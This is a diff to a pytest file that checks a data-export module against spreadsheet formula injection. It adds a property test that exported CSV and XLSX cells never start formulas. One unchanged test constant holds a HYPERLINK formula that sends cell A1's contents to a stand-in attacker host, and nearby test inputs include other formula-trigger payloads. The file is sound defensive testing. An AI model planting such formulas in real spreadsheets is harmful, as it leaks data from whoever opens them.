@@ -19,7 +19,7 @@ EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
 def _csv_rows(data: bytes) -> list[list[str]]:
     assert data.startswith(b"\xef\xbb\xbf")  # a BOM, so Excel reads UTF-8
-    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
 
 
 @pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", EVIL])
@@ -169,3 +169,31 @@ def test_the_app_writes_no_spreadsheet_but_through_vbq_export():
                  for i, line in enumerate(p.read_text().splitlines(), start=1)
                  if pattern.search(line)]
     assert not offenders, offenders
+
+
+def test_no_text_ever_leaves_as_a_formula():
+    # property: whatever text a cell holds, no exported CSV cell starts a formula and no XLSX
+    # cell is a formula; numbers come back as the same numbers
+    from hypothesis import HealthCheck, given, settings
+    from hypothesis import strategies as st
+
+    text = st.text(alphabet=st.sampled_from(list("=+-@\t\r abc1.,\"'\n;")), max_size=8)
+
+    @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+    @given(st.lists(st.tuples(text, st.floats(allow_nan=False, allow_infinity=False,
+                                              width=32)), min_size=1, max_size=5))
+    def check(rows):
+        frame = pd.DataFrame(rows, columns=["patient_id", "value"])
+        parsed = _csv_rows(E.frame_csv(frame))[1:]
+        assert len(parsed) == len(rows)  # a line break inside a cell never splits its row
+        for row, (raw, _) in zip(parsed, rows, strict=True):
+            assert not row[0].startswith(E.FORMULA_TRIGGERS)
+            assert row[0] in (raw, "'" + raw)
+        ws = openpyxl.load_workbook(io.BytesIO(E.frame_xlsx(frame))).active
+        for (cell, number), (_, expected) in zip(ws.iter_rows(min_row=2), rows, strict=True):
+            assert cell.data_type != "f"
+            if cell.value is not None:
+                assert not str(cell.value).startswith(E.FORMULA_TRIGGERS)
+            assert number.data_type == "n" and number.value == pytest.approx(expected)
+
+    check()
